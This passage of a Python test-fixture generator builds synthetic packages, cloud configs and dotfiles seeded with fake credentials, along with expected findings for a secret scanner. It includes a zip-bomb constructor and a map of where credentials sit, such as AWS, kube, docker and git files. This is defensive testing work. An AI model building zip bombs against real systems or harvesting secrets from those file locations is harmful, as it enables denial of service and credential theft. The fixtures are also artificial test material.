    cd = hashlib.sha256(ocfg).hexdigest()
    man = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                      "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": "sha256:" + cd,
                                 "size": len(ocfg)},
                      "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": "sha256:" + ld,
                                  "size": len(layer)}]}).encode()
    md = hashlib.sha256(man).hexdigest()
    base = ART + "/images/oci/payments-worker"
    r = put(base + "/oci-layout", b'{"imageLayoutVersion": "1.0.0"}')
    key("oci_layout_clean", r, [], no_findings=True)
    r = put(base + "/index.json", json.dumps({"schemaVersion": 2, "manifests": [
        {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:" + md, "size": len(man),
         "annotations": {"org.opencontainers.image.ref.name": "2.0.1"}}]}).encode())
    key("oci_index_clean", r, [], no_findings=True)
    r = put(base + "/blobs/sha256/" + md, man)
    key("oci_manifest_clean", r, [], no_findings=True)
    r = put(base + "/blobs/sha256/" + cd, ocfg)
    key("oci_config_clean", r, [], no_findings=True)
    r = put(base + "/blobs/sha256/" + ld, layer)
    key("oci_layer_aws", r, None, planted_under={"aws_key": [a_id], "aws_secret": [a_sec]})


def package_cases():
    # npm package: .npmrc packed by mistake, a source map with the original source
    n_tok, g_key = npm(), gapi()
    src = ("const MAPS_KEY = '%s';\nexport function geocode(q) {\n  return fetch(`https://maps.googleapis.com/maps/api/"
           "geocode/json?address=${q}&key=${MAPS_KEY}`);\n}\n" % g_key)
    smap = json.dumps({"version": 3, "file": "index.js", "sources": ["../src/geo.ts"], "sourcesContent": [src],
                       "names": ["geocode"], "mappings": "AAAA,MAAM,QAAQ"}).encode()
    tgz = tarb([("package/package.json", json.dumps({"name": "@acme/geo-sdk", "version": "2.3.1",
                                                       "main": "dist/index.js"}).encode()),
                ("package/.npmrc", ("//registry.npmjs.org/:_authToken=%s\n" % n_tok).encode()),
                ("package/dist/index.js", b"export function geocode(q){return fetch(q)}\n//# sourceMappingURL=index.js.map\n"),
                ("package/dist/index.js.map", smap)], gz=True)
    r = put(ART + "/npm/acme-geo-sdk-2.3.1.tgz", tgz)
    key("npm_tgz_npmrc_token", r, None, planted_under={"token": [n_tok]})
    key("npm_tgz_sourcemap_key", r, None, planted_under={"token": [g_key]})
    # a Python wheel (zip, dist-info) and its sdist with a .pypirc
    rk = stripe("rk_live_")
    whl = hc.zipb([("acme_billing/__init__.py", b"__version__ = '1.0.0'\n"),
                   ("acme_billing/settings.py", ("STRIPE_RESTRICTED_KEY = '%s'\nCURRENCY = 'usd'\n" % rk).encode()),
                   ("acme_billing-1.0.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: acme-billing\nVersion: 1.0.0\n"),
                   ("acme_billing-1.0.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nGenerator: bdist_wheel (0.24.0)\n"
                                                          b"Root-Is-Purelib: true\nTag: py3-none-any\n"),
                   ("acme_billing-1.0.0.dist-info/RECORD", b"acme_billing/__init__.py,sha256=x,22\n")])
    r = put(ART + "/pypi/acme_billing-1.0.0-py3-none-any.whl", whl)
    key("wheel_settings_key", r, ["acme_billing/settings.py"], planted={"token": [rk]})
    key("wheel_metadata_clean", r, ["acme_billing-1.0.0.dist-info/METADATA"], no_findings=True)
    p_tok = pypi()
    sdist = tarb([("acme_billing-1.0.0/", None),
                  ("acme_billing-1.0.0/PKG-INFO", b"Metadata-Version: 1.1\nName: acme-billing\nVersion: 1.0.0\n"),
                  ("acme_billing-1.0.0/setup.py", b"from setuptools import setup\nsetup(name='acme-billing')\n"),
                  ("acme_billing-1.0.0/.pypirc", ("[distutils]\nindex-servers = pypi\n\n[pypi]\nusername = __token__\n"
                                                  "password = %s\n" % p_tok).encode())], gz=True)
    r = put(ART + "/pypi/acme_billing-1.0.0.tar.gz", sdist)
    key("sdist_pypirc_token", r, None, planted_under={"token": [p_tok]})

    # a JAR: a class file whose constant pool holds a JDBC URL with a password and an AWS key
    j_pw, j_id, j_sec = pw(), aws_id(), aws_secret()
    cls = class_file("com/acme/billing/DbConfig", [
        "jdbc:postgresql://billing_app:%s@db-prod.acme-soft.test:5432/billing" % j_pw,
        "aws.accessKeyId\0%s" % j_id, "aws_secret_access_key=%s" % j_sec, "Lorem caf\u00e9 \U0001F600 ok"])
    jar = hc.zipb([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nCreated-By: 1.7.0_71 (Oracle Corporation)\r\n\r\n"),
                   ("com/acme/billing/DbConfig.class", cls),
                   ("application.properties", ("spring.datasource.url=jdbc:postgresql://db-prod:5432/billing\n"
                                               "spring.datasource.username=billing_app\n"
                                               "spring.datasource.password=%s\n" % j_pw).encode())])
    r = put(ART + "/maven/billing-core-3.2.0.jar", jar)
    key("jar_class_constants", r, ["com/acme/billing/DbConfig.class"], planted={"password": [j_pw], "aws_key": [j_id],
                                                                                "aws_secret": [j_sec]})
    key("jar_properties_password", r, ["application.properties"], planted={"password": [j_pw]})
    key("jar_manifest_clean", r, ["META-INF/MANIFEST.MF"], no_findings=True)
    w_pw = pw()
    war = hc.zipb([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\n\r\n"),
                   ("WEB-INF/web.xml", b'<?xml version="1.0"?>\n<web-app version="3.0"><display-name>portal'
                                       b'</display-name></web-app>\n'),
                   ("WEB-INF/classes/application.yml", ("spring:\n  datasource:\n    username: portal\n    password: \"%s\"\n"
                                                        % w_pw).encode()),
                   ("WEB-INF/lib/billing-core-3.2.0.jar", jar)])
    r = put(ART + "/maven/portal-7.0.war", war)
    key("war_yml_password", r, ["WEB-INF/classes/application.yml"], planted={"password": [w_pw]})
    key("war_nested_jar_class", r, ["WEB-INF/lib/billing-core-3.2.0.jar", "com/acme/billing/DbConfig.class"],
        planted={"aws_key": [j_id]})

    # an Android APK: classes.dex string table, resources.arsc UTF-16 string pool
    a_key, a_hook = gapi(), "https://hooks.slack.com/services/T%s/B%s/%s" % (rs(8, B32), rs(8, B32), rs(24))
    dex = dex_file(["Lcom/acme/wallet/Api;", "https://api.acme-soft.test/v2", a_key, "onCreate"])
    arsc = arsc_file(["Acme Wallet", a_hook, "Sign in"])
    apk = hc.zipb([("AndroidManifest.xml", bytes.fromhex("03000800") + struct.pack("<I", 8) + b"\0" * 8),
                   ("classes.dex", dex), ("resources.arsc", arsc),
                   ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\n\r\n")])
    r = put(ART + "/android/acme-wallet-5.1.0.apk", apk)
    key("apk_dex_google_key", r, ["classes.dex"], planted={"token": [a_key]})
    key("apk_arsc_utf16_webhook", r, ["resources.arsc"], planted={"token": [a_hook]})

    # an Electron asar
    s_tok, pg = slack(), pw()
    asar = asar_file([("package.json", b'{"name":"acme-desktop","version":"3.0.0","main":"main.js"}'),
                      ("main.js", b"const { app } = require('electron');\napp.on('ready', () => {});\n"),
                      ("config/prod.json", json.dumps({"slackToken": s_tok, "db": {"user": "desk",
                                                                                     "password": pg}}).encode())])
    r = put(ART + "/desktop/app.asar", asar)
    key("asar_token", r, None, planted_under={"token": [s_tok], "password": [pg]})
    key("asar_member_config", r, ["config/prod.json"], planted={"token": [s_tok], "password": [pg]})
    key("asar_member_main_clean", r, ["main.js"], no_findings=True)
    key("asar_read_full", r, [], coverage="full", verdict="sensitive")
    # a file named with a character outside the BMP: the index (json.dumps,
    # as Node's JSON.stringify of an escaped name) holds it as a surrogate
    # pair, "\ud83d\udcc4", one character in the member's name
    n_tok = "ghp_" + hc.rand_str(random.Random(14005), 36)
    name = "notes/\U0001F4C4 handover.txt"
    r = put(ART + "/desktop/handover.asar", asar_file([(name, b"release bot token: %s\n" % n_tok.encode())]))
    key("asar_surrogate_pair_name", r, [name], planted={"token": [n_tok]})

    # a zip bomb among the build artefacts, a secret after it
    b_tok = ghp()
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w") as zf:
        zi = zipfile.ZipInfo("cache/gradle-build-cache.bin", (2014, 11, 24, 8, 0, 0))
        zi.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(zi, "w", force_zip64=True) as f:
            chunk = bytes(1 << 20)
            for _ in range(1024):
                f.write(chunk)
        zi2 = zipfile.ZipInfo("cache/gradle.properties", (2014, 11, 24, 8, 0, 0))
        zf.writestr(zi2, ("org.gradle.jvmargs=-Xmx2g\ngpr.key=%s\n" % b_tok).encode())
    r = put(ART + "/build-cache/gradle-cache.zip", z.getvalue())
    key("zip_bomb_alert", r, None, alerts_under=["zip_bomb"])
    key("zip_bomb_after_token", r, ["cache/gradle.properties"], planted={"token": [b_tok]})
    # the bomb member is cut (its own record partial); the archive's directory was read whole
    key("zip_bomb_member_cut", r, ["cache/gradle-build-cache.bin"], coverage="partial", reasons_all=["limit:bytes"],
        alerts_all=["zip_bomb"])
    key("zip_bomb_root_hostile", r, [], verdict="hostile", alerts_all=["zip_bomb"])


def class_file(name, strings):
    """A Java class file (JVMS 4): magic, version 51, a constant pool of
    CONSTANT_Utf8 (modified UTF-8: NUL as C0 80, supplementary characters
    as two 3-byte surrogates), CONSTANT_String and CONSTANT_Class entries,
    the access flags, this and super class, no fields or methods."""
    def mutf8(s):
        out = bytearray()
        for ch in s:
            c = ord(ch)
            if c == 0:
                out += b"\xc0\x80"
            elif c < 0x80:
                out.append(c)
            elif c >= 0x10000:
                c -= 0x10000
                for u in (0xD800 | (c >> 10), 0xDC00 | (c & 0x3FF)):
                    out += chr(u).encode("utf-8", "surrogatepass")
            else:
                out += ch.encode("utf-8")
        return bytes(out)
    pool = []

    def utf8(s):
        b = mutf8(s)
        pool.append(b"\x01" + struct.pack(">H", len(b)) + b)
        return len(pool)
    this_name = utf8(name)
    pool.append(b"\x07" + struct.pack(">H", this_name))
    this_cls = len(pool)
    sup_name = utf8("java/lang/Object")
    pool.append(b"\x07" + struct.pack(">H", sup_name))
    sup_cls = len(pool)
    for s in strings:
        i = utf8(s)
        pool.append(b"\x08" + struct.pack(">H", i))
    return (b"\xca\xfe\xba\xbe" + struct.pack(">HHH", 0, 51, len(pool) + 1) + b"".join(pool)
            + struct.pack(">HHHHHHH", 0x21, this_cls, sup_cls, 0, 0, 0, 0))


uleb = gg.varint  # unsigned LEB128, as DEX writes it


def dex_file(strings):
    """A DEX file (dex-format): the 0x70-byte header ("dex\\n035\\0",
    Adler-32, SHA-1, sizes and offsets), string_ids (offsets), then
    string_data_items (uleb128 UTF-16 length, MUTF-8 bytes, NUL)."""
    strings = sorted(strings)
    ids_off = 0x70
    data_off = ids_off + 4 * len(strings)
    data, offs = b"", []
    for s in strings:
        offs.append(data_off + len(data))
        data += uleb(len(s)) + s.encode() + b"\0"
    size = data_off + len(data)
    hdr = bytearray(0x70)
    hdr[0:8] = b"dex\n035\0"
    struct.pack_into("<II", hdr, 0x20, size, 0x70)
    struct.pack_into("<I", hdr, 0x28, 0x12345678)
    struct.pack_into("<II", hdr, 0x38, len(strings), ids_off)
    struct.pack_into("<II", hdr, 0x68, len(data), data_off)
    body = bytes(hdr) + b"".join(struct.pack("<I", o) for o in offs) + data
    sha = hashlib.sha1(body[32:]).digest()
    body = body[:12] + sha + body[32:]
    return body[:8] + struct.pack("<I", zlib.adler32(body[12:])) + body[12:]


def arsc_file(strings):
    """A resources.arsc table chunk (RES_TABLE_TYPE) with a global string
    pool (RES_STRING_POOL_TYPE) of UTF-16 strings: u16 length, UTF-16LE
    characters, a u16 NUL."""
    sdata, offs = b"", []
    for s in strings:
        offs.append(len(sdata))
        sdata += struct.pack("<H", len(s)) + s.encode("utf-16-le") + b"\0\0"
    while len(sdata) % 4:
        sdata += b"\0"
    hdr_size = 28
    start = hdr_size + 4 * len(strings)
    pool = struct.pack("<HHIIIIII", 0x0001, hdr_size, start + len(sdata), len(strings), 0, 0, start, 0)
    pool += b"".join(struct.pack("<I", o) for o in offs) + sdata
    return struct.pack("<HHII", 0x0002, 12, 12 + len(pool), 0) + pool


# ---------------------------------------------------------------- config and cloud state
def config_cases():
    # Terraform state: secrets in attributes
    t_pw, t_id, t_sec = pw(), aws_id(), aws_secret()
    rsa_body = pem_body(900)
    state = {"version": 4, "terraform_version": "0.12.0", "serial": 42, "lineage": "8f1c2d3e-1111-2222-3333-444455556666",
             "outputs": {"db_endpoint": {"value": "db-prod.acme-soft.test:5432", "type": "string"}},
             "resources": [
                 {"mode": "managed", "type": "aws_db_instance", "name": "main", "provider": "provider.aws",
                  "instances": [{"attributes": {"id": "payments-prod", "engine": "postgres", "username": "payments",
                                                "password": t_pw, "port": 5432}}]},
                 {"mode": "managed", "type": "aws_iam_access_key", "name": "ci",
                  "instances": [{"attributes": {"id": t_id, "user": "ci-deployer", "secret": t_sec, "status": "Active"}}]},
                 {"mode": "managed", "type": "tls_private_key", "name": "bastion",
                  "instances": [{"attributes": {"algorithm": "RSA", "rsa_bits": 4096,
                                                "private_key_pem": pem("RSA PRIVATE KEY", rsa_body)}}]}]}
    r = put(OPS + "/terraform/prod/terraform.tfstate", json.dumps(state, indent=2).encode())
    key("tfstate_password", r, [], planted={"password": [t_pw], "aws_key": [t_id], "private_key": [key_fp(rsa_body)]})
    # aws_iam_access_key's "secret" attribute: the generic secret rule's (token), not aws_secret's
    # (whose label is aws_secret_access_key / SecretAccessKey): found is what counts
    key("tfstate_iam_secret", r, [], planted={"token": [t_sec]})
    r = put(OPS + "/terraform/prod/terraform.tfstate.backup", json.dumps({"version": 4, "serial": 41, "resources": []}).encode())
    key("tfstate_backup_clean", r, [], no_findings=True)
    v_pw = pw()
    dd = "".join(R.choice("0123456789abcdef") for _ in range(32))
    r = put(OPS + "/terraform/prod/prod.tfvars", ('region = "us-west-2"\ninstance_type = "m3.large"\n'
                                                  'db_password = "%s"\ndatadog_api_key = "%s"\n' % (v_pw, dd)).encode())
    key("tfvars_password", r, [], planted={"password": [v_pw]})
    key("tfvars_datadog_key", r, [], entities_all=["token"])
    # kubeconfig: a base64'd PEM key in client-key-data, a bearer token
    ec_body = pem_body(121)
    ec = pem("EC PRIVATE KEY", ec_body)
    ca = base64.b64encode(pem("CERTIFICATE", pem_body(700)).encode()).decode()
    crt = base64.b64encode(pem("CERTIFICATE", pem_body(600)).encode()).decode()
    k_tok = "kubeadm." + rs(16).lower()
    sa = jwt_token({"iss": "kubernetes/serviceaccount", "kubernetes.io/serviceaccount/namespace": "kube-system",
                    "sub": "system:serviceaccount:kube-system:deployer"})
    kube = ("apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    certificate-authority-data: %s\n"
            "    server: https://k8s-prod.acme-soft.test:6443\n  name: prod\ncontexts:\n- context:\n    cluster: prod\n"
            "    user: admin\n  name: prod-admin\ncurrent-context: prod-admin\nusers:\n- name: admin\n  user:\n"
            "    client-certificate-data: %s\n    client-key-data: %s\n- name: deployer\n  user:\n    token: %s\n"
            % (ca, crt, base64.b64encode(ec.encode()).decode(), sa))
    r = put(HOME + "/.kube/config", kube.encode())
    key("kubeconfig_sa_jwt", r, [], entities_all=["jwt"])
    key("kubeconfig_client_key", r, None, planted_under={"private_key": [key_fp(ec_body)]})
    del k_tok
    # Kubernetes Secret manifests
    s_pw, s_tok = pw(), stripe()
    sec = ("apiVersion: v1\nkind: Secret\nmetadata:\n  name: payments-db\n  namespace: prod\ntype: Opaque\ndata:\n"
           "  DB_USER: %s\n  DB_PASSWORD: %s\n  STRIPE_SECRET_KEY: %s\n"
           % (base64.b64encode(b"payments").decode(), base64.b64encode(s_pw.encode()).decode(),
              base64.b64encode(s_tok.encode()).decode()))
    r = put(OPS + "/k8s/prod/payments-db-secret.yaml", sec.encode())
    key("k8s_secret_data", r, None, planted_under={"password": [s_pw], "token": [s_tok]})
    sd_pw = pw()
    r = put(OPS + "/k8s/prod/redis-secret.yaml", ("apiVersion: v1\nkind: Secret\nmetadata:\n  name: redis\ntype: Opaque\n"
                                                  "stringData:\n  redis-password: \"%s\"\n" % sd_pw).encode())
    key("k8s_secret_stringdata", r, None, planted_under={"password": [sd_pw]})
    r = put(OPS + "/k8s/prod/deployment.yaml", b"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: payments\n"
            b"spec:\n  replicas: 3\n  template:\n    spec:\n      containers:\n      - name: web\n"
            b"        image: acme/payments-web:1.4.2\n        envFrom:\n        - secretRef:\n            name: payments-db\n")
    key("k8s_deployment_clean", r, [], no_findings=True)
    # key/value variables: a Postman environment, GitLab CI variables (API export), a pretty-printed
    # container env (kubectl -o json): the name says password, the value follows under "value"
    # (gap: secret_password_env_entry reads only "name" and a name/value pair on one line or YAML's two;
    # secret_password_assignment takes some such values and not others, by the value's shape; patch
    # /tmp/s17/patches/hostile17-rules-keyvalue-password.patch reads these three and drops the marks)
    # (their own random source: the values, and so whether a value-dependent rule takes them, do not
    # move when a case is added elsewhere)
    pm_pw, gl_pw, kj_pw = pw_from(random.Random(14001)), pw_from(random.Random(14002)), pw_from(random.Random(14003))
    r = put(CI + "/postman/payments-prod.postman_environment.json", json.dumps(
        {"name": "payments-prod", "values": [{"key": "base_url", "value": "https://api.acme-soft.test", "enabled": True},
                                             {"key": "ADMIN_PASSWORD", "value": pm_pw, "enabled": True}]}, indent="\t").encode())
    key("postman_env_password", r, [], planted={"password": [pm_pw]})
    r = put(CI + "/gitlab/variables/payments-api.json", json.dumps(
        [{"variable_type": "env_var", "key": "DEPLOY_PASSWORD", "value": gl_pw, "protected": True, "masked": True}],
        indent=2).encode())
    key("gitlab_variables_password", r, [], planted={"password": [gl_pw]})
    r = put(OPS + "/k8s/dump/payments-deployment.json", json.dumps(
        {"kind": "Deployment", "spec": {"template": {"spec": {"containers": [{"name": "web", "env": [
            {"name": "SMTP_PASS", "value": kj_pw}]}]}}}}, indent=4).encode())
    key("k8s_json_env_password", r, [], planted={"password": [kj_pw]})
    # a Secret holding a Java key store and a PKCS#12 bundle (binary: base64 of the file)
    g2 = gs.Gen(None, 1418)
    ks = gs.jks(g2, 0xFEEDFEED, [gs.jks_key_entry(g2, "payments", "1.3.6.1.4.1.42.2.17.1.1")])
    r = put(OPS + "/k8s/prod/payments-keystore-secret.yaml", (
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: payments-keystore\ntype: Opaque\ndata:\n"
        "  keystore.jks: %s\n  client.p12: %s\n  keystore-password: %s\n"
        % (base64.b64encode(ks).decode(), base64.b64encode(gs.pkcs12(g2, True)).decode(),
           base64.b64encode(b"changeit").decode())).encode())
    key("k8s_secret_keystore", r, ["keystore.jks"], entities_all=["credential_store"])
    key("k8s_secret_pkcs12", r, ["client.p12"], entities_all=["credential_store"])
    # the same Secret as kubectl get -o json prints it
    j_pw = pw()
    r = put(OPS + "/k8s/dump/secrets-prod.json", json.dumps({"apiVersion": "v1", "kind": "List", "items": [
        {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "ledger-db", "namespace": "prod"}, "type": "Opaque",
         "data": {"username": base64.b64encode(b"ledger").decode(), "password": base64.b64encode(j_pw.encode()).decode()}}]},
        indent=4).encode())
    key("k8s_secret_json_list", r, None, planted_under={"password": [j_pw]})
    # a Helm 3 release Secret (kubectl get secret sh.helm.release.v1.NAME.vN -o yaml): data.release is
    # base64 (Kubernetes) of base64 (Helm) of a gzip'd JSON release whose config holds the values given
    r_pw = pw()
    release = json.dumps({"name": "billing", "version": 3, "namespace": "prod", "info": {"status": "deployed"},
                          "config": {"postgresql": {"auth": {"username": "billing", "password": r_pw}}},
                          "manifest": "---\n# Source: billing/templates/deployment.yaml\n"}).encode()
    inner = base64.b64encode(gzip.compress(release, mtime=TS))
    r = put(OPS + "/k8s/dump/sh.helm.release.v1.billing.v3.yaml", (
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: sh.helm.release.v1.billing.v3\n  namespace: prod\n"
        "  labels:\n    owner: helm\n    status: deployed\ntype: helm.sh/release.v1\ndata:\n  release: %s\n"
        % base64.b64encode(inner).decode()).encode())
    key("helm_release_secret_password", r, None, planted_under={"password": [r_pw]})
    # docker login's config.json: "auth" is base64 of user:password
    # (the basic_auth rule's value, and so its fingerprint, is the base64 run: docs/rules.md)
    d_auth = base64.b64encode(("ci-bot:%s" % pw()).encode()).decode()
    r = put(HOME + "/.docker/config.json", json.dumps({"auths": {"registry.acme-soft.test": {"auth": d_auth}}},
                                                      indent="\t").encode())
    key("docker_config_auth", r, [], exact={"password": [d_auth]})
    # the AWS CLI's cached STS credentials
    s_id, s_sec = "ASIA" + rs(16, B32), aws_secret()
    r = put(HOME + "/.aws/cli/cache/3f1c2d9e8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e.json", json.dumps(
        {"Credentials": {"AccessKeyId": s_id, "SecretAccessKey": s_sec, "SessionToken": "IQoJb3JpZ2luX2VjE" + rs(120),
                         "Expiration": "2014-11-24T10:00:00Z"}, "AssumedRoleUser": {"Arn": "arn:aws:sts::123456789012:"
                                                                                     "assumed-role/deploy/jdoe"}}).encode())
    key("aws_cli_cache_sts", r, [], planted={"aws_key": [s_id], "aws_secret": [s_sec]})
    # the GitHub CLI's hosts file
    gho = "gho_" + rs(36)
    r = put(HOME + "/.config/gh/hosts.yml", ("github.com:\n    user: jdoe\n    oauth_token: %s\n    git_protocol: https\n"
                                             % gho).encode())
    key("gh_hosts_token", r, [], exact={"token": [gho]})
    # Helm values, docker-compose, .env
    h_pw, h_pw2 = pw(), pw()
    r = put(OPS + "/helm/payments/values-prod.yaml", ("replicaCount: 3\npostgresql:\n  auth:\n    username: payments\n"
                                                      "    password: \"%s\"\n    postgresPassword: \"%s\"\n"
                                                      "ingress:\n  enabled: true\n" % (h_pw, h_pw2)).encode())
    key("helm_values_passwords", r, [], exact={"password": [h_pw, h_pw2]})
    c_pw, c_pw2 = pw(), pw()
    r = put(OPS + "/compose/docker-compose.yml", ("version: '2'\nservices:\n  db:\n    image: postgres:9.4\n    environment:\n"
                                                  "      POSTGRES_PASSWORD: %s\n  mysql:\n    image: mysql:5.6\n"
                                                  "    environment:\n      - MYSQL_ROOT_PASSWORD=%s\n" % (c_pw, c_pw2)).encode())
    key("compose_passwords", r, [], planted={"password": [c_pw, c_pw2]})
    e_pw, e_tok = pw(), stripe()
    r = put(GIT + "/payments-api-deploy/.env", ("DEBUG=false\n"
                                                "DATABASE_URL=postgres://payments:%s@db-prod.acme-soft.test/payments\n"
                                                "STRIPE_SECRET_KEY=%s\n" % (e_pw, e_tok)).encode())
    key("dotenv_secrets", r, [], planted={"password": [e_pw], "token": [e_tok]})
    r = put(GIT + "/payments-api-deploy/.env.example", b"DEBUG=false\nDATABASE_URL=postgres://user:password@localhost/payments\n"
            b"STRIPE_SECRET_KEY=sk_test_xxxxxxxxxxxxxxxxxxxxxxxx\n")
    key("dotenv_example_clean", r, [], no_findings=True)
    # Ansible Vault: a whole encrypted file, and one encrypted value in YAML
    hexl = "".join("%02x" % R.randrange(256) for _ in range(400)).encode().hex()
    vault = "$ANSIBLE_VAULT;1.1;AES256\n" + "\n".join(hexl[i:i + 80] for i in range(0, len(hexl), 80)) + "\n"
    r = put(OPS + "/ansible/group_vars/prod/vault.yml", vault.encode())
    key("ansible_vault_encrypted", r, [], coverage="none", reasons_all=["encrypted"], verdict_in=["incomplete", "sensitive"])
    inline = ("db_user: payments\ndb_password: !vault |\n          $ANSIBLE_VAULT;1.1;AES256\n"
              + "".join("          %s\n" % hexl[i:i + 80] for i in range(0, 480, 80)) + "db_port: 5432\n")
    r = put(OPS + "/ansible/group_vars/prod/main.yml", inline.encode())
    key("ansible_inline_vault_not_clean", r, [], verdict_in=["incomplete", "sensitive"], coverage="partial",
        reasons_all=["encrypted"])
    # Jenkins credentials.xml: a plain password (old plugin) and encrypted ones
    jk_pw = pw()
    enc = "{AQAAABAAAAAQ" + base64.b64encode(bytes(R.randrange(256) for _ in range(48))).decode() + "}"
    jx = ("<?xml version='1.0' encoding='UTF-8'?>\n"
          "<com.cloudbees.plugins.credentials.SystemCredentialsProvider plugin=\"credentials@1.18\">\n"
          "  <domainCredentialsMap class=\"hudson.util.CopyOnWriteMap$Hash\">\n    <entry>\n"
          "      <com.cloudbees.plugins.credentials.domains.Domain><specifications/>"
          "</com.cloudbees.plugins.credentials.domains.Domain>\n"
          "      <java.util.concurrent.CopyOnWriteArrayList>\n"
          "        <com.cloudbees.plugins.credentials.impl.UsernamePasswordCredentialsImpl>\n"
          "          <scope>GLOBAL</scope><id>deploy</id><description>prod deploy</description>\n"
          "          <username>deploy</username>\n          <password>%s</password>\n"
          "        </com.cloudbees.plugins.credentials.impl.UsernamePasswordCredentialsImpl>\n"
          "        <org.jenkinsci.plugins.plaincredentials.impl.StringCredentialsImpl>\n"
          "          <scope>GLOBAL</scope><id>slack</id>\n          <secret>%s</secret>\n"
          "        </org.jenkinsci.plugins.plaincredentials.impl.StringCredentialsImpl>\n"
          "      </java.util.concurrent.CopyOnWriteArrayList>\n    </entry>\n  </domainCredentialsMap>\n"
          "</com.cloudbees.plugins.credentials.SystemCredentialsProvider>\n" % (jk_pw, enc))
    r = put(CI + "/jenkins_home/credentials.xml", jx.encode())
    key("jenkins_credentials_password", r, [], planted={"password": [jk_pw]})
    # a job's config.xml as Jenkins 2 writes it: the password parameter's default encrypted with the
    # instance's master key (secrets/master.key and secrets/hudson.util.Secret, beside it in the dump,
    # decrypt it). gap: no rule reads hudson.util.Secret's {AQAAABAAAA...} form; patch
    # /tmp/s17/patches/hostile17-rules-keyvalue-password.patch adds secret_jenkins_secret and drops the mark
    iv_blob = bytes([1]) + struct.pack(">II", 16, 32) + bytes(R.randrange(256) for _ in range(48))
    enc2 = "{" + base64.b64encode(iv_blob).decode() + "}"
    r = put(CI + "/jenkins_home/jobs/payments-deploy/config.xml", (
        "<?xml version='1.1' encoding='UTF-8'?>\n<flow-definition plugin=\"workflow-job@2.40\">\n  <properties>\n"
        "    <hudson.model.ParametersDefinitionProperty><parameterDefinitions>\n"
        "      <hudson.model.PasswordParameterDefinition><name>DB_PASSWORD</name>\n"
        "        <defaultValueAsSecret>%s</defaultValueAsSecret>\n"
        "      </hudson.model.PasswordParameterDefinition>\n    </parameterDefinitions>"
        "</hudson.model.ParametersDefinitionProperty>\n  </properties>\n</flow-definition>\n" % enc2).encode())
    key("jenkins_job_encrypted_secret", r, [], exact={"password": [enc2]})
    r = put(CI + "/jenkins_home/secrets/master.key", bytes(R.randrange(256) for _ in range(256)).hex().encode())
    # the master key itself: 256 random bytes as hex, no label (gap: nothing reads a bare key file by its name)
    key("jenkins_master_key", r, [], verdict="sensitive", gap=True)
    # developer dotfiles
    n_tok = npm()
    r = put(HOME + "/.npmrc", ("registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=%s\n" % n_tok).encode())
    key("npmrc_token", r, [], planted={"token": [n_tok]})
    p_tok = pypi()
    r = put(HOME + "/.pypirc", ("[distutils]\nindex-servers =\n    pypi\n\n[pypi]\nusername = __token__\n"
                                "password = %s\n" % p_tok).encode())
    key("pypirc_token", r, [], planted={"token": [p_tok]})
    nt, npw = ghp(), pw()
    r = put(HOME + "/.netrc", ("machine github.com\n  login jdoe\n  password %s\n"
                               "machine ftp.acme-soft.test login jdoe password %s\n"
                               % (nt, npw)).encode())
    key("netrc_token_password", r, [], planted={"token": [nt], "password": [npw]})
    gl = glpat()
    r = put(HOME + "/.git-credentials", ("https://jdoe:%s@gitlab.acme-soft.test\n" % gl).encode())
    key("git_credentials_token", r, [], planted={"token": [gl]})
    a_id, a_sec = aws_id(), aws_secret()
    r = put(HOME + "/.aws/credentials", ("[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n"
                                         % (a_id, a_sec)).encode())
    key("aws_credentials", r, [], exact={"aws_key": [a_id], "aws_secret": [a_sec]})
    r = put(HOME + "/.aws/config", b"[default]\nregion = us-west-2\noutput = json\n")
    key("aws_config_clean", r, [], no_findings=True)
    g_sec, g_ref = "GOCSPX-" + rs(28), "1//0" + rs(60)
    r = put(HOME + "/.config/gcloud/application_default_credentials.json", json.dumps(
        {"client_id": "764086051850-6qr4p6gpi6hn506pt8ejuq83di341hur.apps.googleusercontent.com",
         "client_secret": g_sec, "refresh_token": g_ref, "type": "authorized_user"}, indent=2).encode())
    key("gcloud_adc_tokens", r, [], planted={"token": [g_sec, g_ref]})
    sa_body = pem_body(1200)
    sa_kid = "".join(R.choice("0123456789abcdef") for _ in range(40))
    r = put(OPS + "/gcp/acme-payments-prod-3f2a1c.json", json.dumps(
        {"type": "service_account", "project_id": "acme-payments-prod", "private_key_id": sa_kid,
         "private_key": pem("PRIVATE KEY", sa_body), "client_email": "deployer@acme-payments-prod.iam.gserviceaccount.com",
         "client_id": "104858301921313551234", "auth_uri": "https://accounts.google.com/o/oauth2/auth",
         "token_uri": "https://oauth2.googleapis.com/token"}, indent=2).encode())
    key("gcp_service_account", r, [], planted={"gcp_key": [sa_kid], "private_key": [key_fp(sa_body)]})
    az = rs(3) + "8Q~" + rs(34, ALNUM + "_~.-")
    r = put(HOME + "/.azure/sp-payments.json", json.dumps(
        {"appId": "0f3b7c2e-5d41-4a8e-9c6b-2e7f1a9d3c45", "displayName": "payments-ci", "password": az,
         "tenant": "72f988bf-86f1-41af-91ab-2d7cd011db47"}, indent=2).encode())
    key("azure_sp_secret", r, [], entities_all=["token"])
    r = put(HOME + "/.azure/azureProfile.json", json.dumps({"installationId": "8d2a3c1e-1111-4a8e-9c6b-2e7f1a9d3c45",
                                                            "subscriptions": [{"id": "9b1c2d3e-4f50-4a8e-9c6b-2e7f1a9d3c45",
                                                                               "name": "Pay-As-You-Go", "state": "Enabled",
                                                                               "isDefault": True}]}).encode())
    key("azure_profile_clean", r, [], no_findings=True)
    # OpenSSH keys, the public half, known_hosts
    k1, b1, pub1 = openssh_key("jdoe@build01")
